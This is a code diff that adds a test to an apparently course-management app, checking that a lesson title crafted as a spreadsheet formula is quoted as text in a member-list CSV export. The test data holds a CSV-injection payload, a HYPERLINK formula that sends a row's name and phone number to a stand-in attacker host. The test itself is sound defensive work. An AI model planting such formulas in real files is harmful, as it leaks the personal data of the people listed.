@@ -104,6 +104,29 @@ def test_text_that_looks_like_a_formula_stays_text(client, studied, province):
     assert not names & set(TRICKY)
 
 
+def test_a_lesson_title_that_looks_like_a_formula_stays_text_in_the_csv_heading(
+    client, studied, county_organiser
+):
+    # given an editor titled a lesson as a formula that would send the row's
+    # name and phone away when an organiser opens the file
+    lesson = studied.lessons[0].specific
+    lesson.title = '=HYPERLINK("http://evil.example/?"&A2&B2,"第一课")'
+    lesson.save_revision().publish()
+    client_for(client, county_organiser)
+
+    # when the organiser downloads the member list as CSV
+    response = client.get(
+        f"/reports/members/?course={studied.course.pk}&export=csv", **EN
+    )
+
+    # then the title heads its column as text, quoted like every other cell
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    headings = next(csv.reader(io.StringIO(text)))
+    assert "'" + lesson.title in headings
+    assert lesson.title not in headings
+
+
 def test_the_report_xlsx_opens_with_the_rows_and_total(client, studied, city_organiser):
     client_for(client, city_organiser)
 
